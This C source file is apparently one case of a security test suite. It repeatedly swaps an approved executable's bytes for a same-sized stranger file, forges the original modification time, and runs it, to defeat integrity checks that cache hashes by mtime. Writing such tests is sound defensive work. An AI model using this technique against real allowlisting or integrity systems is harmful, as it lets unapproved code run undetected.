/* Row 14: writes other bytes of the same length into the approved file, puts its modification time back, runs it, and
 * restores it, as fast as it can. In between the approved program runs, so that whoever remembers hashes has one.
 *
 *   attack-rewrite SOCKET TRIES APPROVED STRANGER      (both files have the same size)
 */
#include "attack-common.h"

static char good[1 << 22], evil[1 << 22];

static ssize_t load(const char *path, char *to, size_t size)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t length = read(fd, to, size);
    if (fd < 0 || length <= 0)
        die(path);
    close(fd);
    return length;
}

static void store(const char *path, const char *bytes, ssize_t length, struct timespec when)
{
    struct timespec times[2] = { when, when };
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0 || pwrite(fd, bytes, (size_t)length, 0) != length || futimens(fd, times) != 0)
        die(path);
    close(fd);
}

static void run(const char *program, const char *path)
{
    pid_t pid = fork();
    if (pid == 0) {
        execl(program, program, path, "once", (char *)NULL);
        die("exec");
    }
    waitpid(pid, NULL, 0);
}

int main(int count, char **arguments)
{
    struct stat status;
    if (count < 5)
        return 2;
    const char *approved = arguments[3];
    ssize_t length = load(approved, good, sizeof good);
    if (load(arguments[4], evil, sizeof evil) != length || stat(approved, &status) != 0)
        die("sizes");
    for (int tries = atoi(arguments[2]); tries > 0; tries--) {
        run(approved, arguments[1]);
        store(approved, evil, length, status.st_mtim);
        run(approved, arguments[1]);
        store(approved, good, length, status.st_mtim);
    }
    return 0;
}
